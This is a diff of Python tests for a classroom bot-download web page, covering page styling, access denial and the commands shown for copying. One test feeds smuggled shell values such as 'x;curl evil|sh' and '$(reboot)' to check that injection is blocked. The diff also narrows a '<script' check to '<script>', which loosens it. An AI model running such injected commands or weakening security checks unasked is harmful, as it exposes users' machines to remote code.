@@ -11,6 +11,7 @@ from turnwright.app.lan.bot_templates import BotTemplates, class_bot
 from turnwright.app.lan.bot_wheel import bot_wheel
 from turnwright.app.lan.class_page import ClassPages, bot_name_problem
 from turnwright.net.http.request import HttpResponse
+from turnwright.net.http.viewer_files import load_viewer
 
 HOST = "192.168.1.20:7654"
 WORD = "quick-otter-42"
@@ -33,6 +34,18 @@ def test_the_page_names_the_server_as_the_browser_did_and_fills_the_word_in(page
     assert answer.status == 200
     assert not missing(answer.body.decode(), f"pip install {wheel}", f'value="{WORD}"')
     assert "http://10.0.0.5/get" in ask(pages, "/get", "10.0.0.5").body.decode()
+
+
+def test_the_page_looks_like_the_other_pages_of_its_server_and_has_no_style_of_its_own(
+    pages: ClassPages,
+) -> None:
+    answer = ask(pages, "/get")
+    assert "<style" not in answer.body.decode()
+    assert "style-src 'self';" in answer.policy
+    files = load_viewer()
+    used = re.findall(r'(?:href|src)="/(viewer/[^"]+)"', answer.body.decode())
+    assert "viewer/app.css" in used
+    assert not [one for one in used if one not in files]
 
 
 @pytest.mark.parametrize("name", [bot_wheel().name, quote(bot_wheel().name)])
@@ -63,7 +76,7 @@ def test_a_bot_knows_a_word_of_any_signs(word: str) -> None:
 @pytest.mark.parametrize("name", ["x;curl evil|sh", "$(reboot)", "class"])
 def test_a_command_to_copy_names_no_file_that_a_bot_cannot_have(pages: ClassPages, name: str) -> None:
     commands = re.findall(
-        "<pre>(?:py|python3) ([^<-]*)</pre>", ask(pages, f"/get?name={quote(name)}").body.decode()
+        "<pre[^>]*>(?:py|python3) ([^<-]*)</pre>", ask(pages, f"/get?name={quote(name)}").body.decode()
     )
     assert commands == ["NAME.py"] * 2
     assert ">py Ada.py<" in ask(pages, "/get?name=Ada").body.decode()
@@ -75,7 +88,7 @@ def test_without_the_word_there_is_no_bot_but_a_page_that_says_why(pages: ClassP
     assert (answer.status, answer.headers) == (403, {})
     assert 'role="alert"' in answer.body.decode()
     assert 'value="Ada"' in answer.body.decode()
-    assert "<script" not in answer.body.decode()
+    assert "<script>" not in answer.body.decode()
     assert WORD not in answer.body.decode()
 
 
